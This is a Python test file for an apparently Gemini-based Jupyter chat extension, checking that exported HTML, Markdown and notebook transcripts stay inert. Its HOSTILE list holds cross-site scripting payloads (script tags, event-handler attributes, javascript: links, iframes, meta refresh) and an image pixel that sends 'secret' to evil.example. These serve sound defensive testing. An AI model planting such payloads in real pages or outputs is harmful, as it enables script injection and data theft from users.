"""Chats as Markdown, page and notebook: readable, and inert whatever the model wrote."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import nbformat
import pytest
from markdown_it import MarkdownIt
from nbclient import NotebookClient

from gemini_magic.chats.chat import Chat
from gemini_magic.chats.transcript import load_chat, save_chat
from gemini_magic.emulator import ScriptedReply
from gemini_magic.exports.export import export_chat
from gemini_magic.options.cell_options import Options
from gemini_magic.options.settings import Settings
from gemini_magic.replies.extras.drawn import extras_line
from gemini_magic.replies.extras.found import find_extras
from gemini_magic.views.base import NoView
from tests.support.parts import chunk
from tests.support.recorded_replies import events_in, expected_end, load_recorded

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> and <svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "![pixel](https://evil.example/?d=secret)",
    "[click](javascript:alert(1)) <details open ontoggle=alert(1)>",
    "```html\n<script>one</script>\n\n<script>two</script>\n\n![x](https://evil.example/a)\n```",
    "- item\n\n  ```\n  a\n\n\n  <img src=x onerror=alert(2)>\n  ```\n\n<base href='//evil.example'>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">\n\n<style>@import "//evil.example"</style>',
    "```python\nleft = 'open'",
    "$\\href{javascript:alert(1)}{x}$ and &lt;script&gt;",
    "text\r\r<script>alert(3)</script>\r\n\r\n<script>",
    "[a]: javascript:alert(1)\n\n[a] ![b][a]",
    "</div></body></html><script>alert(4)</script>",
    "a\n\n> quote\n\n| t | u |\n|---|---|\n| <b onclick=x> | `</code><script>` |",
]


def ask(session, text="hello", **options):
    return session.ask(text, Options(**options), Settings(tries=1), NoView())


@pytest.fixture
def hostile(session, server, emulator):
    for text in HOSTILE:
        emulator.script.append(ScriptedReply(pieces=(text,)))
        ask(session, f"say: {text}", system="be <script>alert(0)</script>")
    return session.chats["main"]


class Elements(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, *pair) for pair in attrs]

    def handle_data(self, data):
        self.text += data


def check_is_inert(elements):
    active = {"script", "iframe", "img", "svg", "object", "embed", "base", "form", "link", "input", "video"}
    assert not active & set(elements.tags)
    for tag, name, value in elements.attributes:
        assert not name.startswith("on")
        assert name not in {"src", "srcset"}
        assert name != "style" or re.fullmatch("text-align:(left|center|right)|margin-left:auto", value)
        if name == "href":
            assert re.match(r"(?:https?|mailto):", value), (tag, value)


def test_a_page_runs_and_fetches_nothing(hostile, tmp_path):
    export_chat(hostile, tmp_path / "chat.html")
    html = (tmp_path / "chat.html").read_text()
    elements = Elements(html)
    check_is_inert(elements)
    assert (elements.tags.count("style"), elements.tags.count("meta")) == (1, 4)
    policy = dict((e[1], e[2]) for e in elements.attributes if e[0] == "meta")["content"]
    assert "default-src 'none'; style-src 'unsafe-hashes' 'sha256-" in html
    assert "unsafe-inline" not in html.partition("<body>")[0]
    assert policy
    assert "<script>alert(1)</script>" in elements.text
    assert html.count("<section>") == html.count("</section>") == len(HOSTILE)
    assert "prefers-color-scheme: dark" in html
    assert not re.search(r"url\(|@import", html.partition("<body>")[0])


def test_the_policy_lets_the_style_through(hostile, tmp_path):
    import base64
    import hashlib

    export_chat(hostile, tmp_path / "chat.html")
    html = (tmp_path / "chat.html").read_text()
    style = re.search(r"<style>(.*?)</style>", html, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"'sha256-{digest}'" in html


def test_code_on_a_page_is_coloured_and_math_stays_readable(session, server, emulator, tmp_path):
    emulator.script.append(ScriptedReply(pieces=("```python\nimport os\n```\n\nand $E = mc^2$",)))
    ask(session)
    export_chat(session.chats["main"], tmp_path / "chat.html")
    html = (tmp_path / "chat.html").read_text()
    assert '<span class="kn">import</span>' in html
    assert ".highlight .kn" in html
    assert "E = mc^2" in Elements(html).text


def test_markdown_is_inert_where_html_is_allowed(hostile, tmp_path):
    export_chat(hostile, tmp_path / "chat.md")
    markdown = (tmp_path / "chat.md").read_text()
    for parser in (MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"html": True})):
        elements = Elements(parser.render(markdown))
        check_is_inert(elements)
        # Nothing left open in one turn swallows the next.
        assert "".join(elements.text).count("Prompt ") == len(HOSTILE)
        assert elements.tags.count("hr") == len(HOSTILE)


def test_plain_replies_stay_as_they_are(session, server, emulator, tmp_path):
    reply = "# Title\n\nSome *text* with `code`.\n\n```python\nx = 1\n\n\ny = 2\n```\n\n- a\n- b"
    emulator.script.append(ScriptedReply(pieces=(reply,), finish_reason="MAX_TOKENS"))
    ask(session, "first line\n\nsecond line", system="be brief")
    export_chat(session.chats["main"], str(tmp_path / "chat.md"))
    markdown = (tmp_path / "chat.md").read_text()
    assert reply in markdown
    assert "> first line\n>\n> second line\n" in markdown
    assert "> be brief" in markdown
    assert "(cut off at the limit of output tokens)" in markdown


def _cells(path):
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    return notebook


@pytest.mark.slow
def test_a_notebook_runs_as_it_is(session, server, emulator, tmp_path):
    ask(session, "one", system="be\n'kind' $x", max_tokens=500, temperature=0.5)
    ask(session, "  two\n\n$x {y} %%gemini", thinking="low", model="gemini-2.5-pro")
    ask(session, "three?", system="simple, short", thoughts=True)
    export_chat(session.chats["main"], tmp_path / "chat.ipynb")
    notebook = _cells(tmp_path / "chat.ipynb")
    sources = [cell.source for cell in notebook.cells]
    assert sources == [
        "%load_ext gemini_magic",
        "system_1 = \"be\\n'kind' $x\"",
        "%%gemini --max-tokens 500 --temperature 0.5 -s $system_1\none",
        "%%gemini --model gemini-2.5-pro --thinking low --no-vars\n  two\n\n$x {y} %%gemini",
        '%%gemini --thoughts -s "simple, short"\nthree?',
    ]
    sent = list(emulator.bodies)
    before = [[output.data for output in cell.outputs] for cell in notebook.cells]
    NotebookClient(notebook, timeout=60, kernel_name="python3").execute()
    assert list(emulator.bodies) == sent * 2
    # The usage line knows the times now; the rest is the same.
    after = [[output.data for output in cell.outputs] for cell in notebook.cells]
    assert [cell[1:] for cell in after[:4]] == [cell[1:] for cell in before[:4]]
    assert [len(cell) for cell in after] == [len(cell) for cell in before]


@pytest.mark.slow
def test_a_hostile_notebook_runs_too(hostile, tmp_path):
    export_chat(hostile, tmp_path / "chat.ipynb")
    notebook = _cells(tmp_path / "chat.ipynb")
    for cell in notebook.cells:
        for output in cell.outputs:
            check_is_inert(Elements(output.data.get("text/html", "")))
    NotebookClient(notebook, timeout=60, kernel_name="python3").execute()


def test_names_from_a_file_are_not_trusted(hostile, tmp_path):
    save_chat(hostile, tmp_path / "chat.json")
    body = json.loads((tmp_path / "chat.json").read_text())
    for turn in body["turns"]:
        turn["model"] = "<script>x</script>\nimport os"
    (tmp_path / "chat.json").write_text(json.dumps(body))
    chat = load_chat(tmp_path / "chat.json", "<b onclick=x>")
    for suffix in ("html", "md", "ipynb"):
        export_chat(chat, tmp_path / f"chat.{suffix}")
    check_is_inert(Elements((tmp_path / "chat.html").read_text()))
    check_is_inert(Elements(MarkdownIt("commonmark").render((tmp_path / "chat.md").read_text())))
    for cell in _cells(tmp_path / "chat.ipynb").cells:
        assert "\nimport os" not in cell.source


@pytest.mark.parametrize("row", load_recorded("streams.jsonl"))
def test_recorded_replies_can_be_exported(row, server, emulator, session, tmp_path):
    emulator.script.append(ScriptedReply(raw=row["body"]))
    with expected_end(events_in(row["body"])):
        ask(session)
    chat = session.chats.get("main", Chat("main"))
    for suffix in ("md", "html", "ipynb"):
        export_chat(chat, tmp_path / f"chat.{suffix}")
    check_is_inert(Elements((tmp_path / "chat.html").read_text()))
    check_is_inert(Elements(MarkdownIt("commonmark").render((tmp_path / "chat.md").read_text())))
    for cell in _cells(tmp_path / "chat.ipynb").cells[1:]:
        plain = "".join(output.data["text/plain"] for output in cell.outputs[1:])
        # Sources are no part of what a chat keeps.
        extras = extras_line(find_extras(session.last.wire_parts))
        assert plain.strip() == (session.last.text + extras).strip()


def test_what_came_beside_the_text_is_said(session, server, emulator, tmp_path):
    call = {"functionCall": {"name": "look", "args": {"at": "https://evil.example <script>"}}}
    emulator.script.append(ScriptedReply(pieces=(chunk(call, finishReason="STOP"),)))
    ask(session)
    for suffix in ("md", "html", "ipynb"):
        export_chat(session.chats["main"], tmp_path / f"chat.{suffix}")
    line = "function call look(at='https://evil.example <script>')"
    page = Elements((tmp_path / "chat.html").read_text())
    markdown = Elements(MarkdownIt("gfm-like", {"html": True}).render((tmp_path / "chat.md").read_text()))
    for elements in (page, markdown):
        check_is_inert(elements)
        assert line in elements.text
        assert "a" not in elements.tags
    [_, cell] = _cells(tmp_path / "chat.ipynb").cells
    assert cell.outputs[1].data["text/plain"] == line
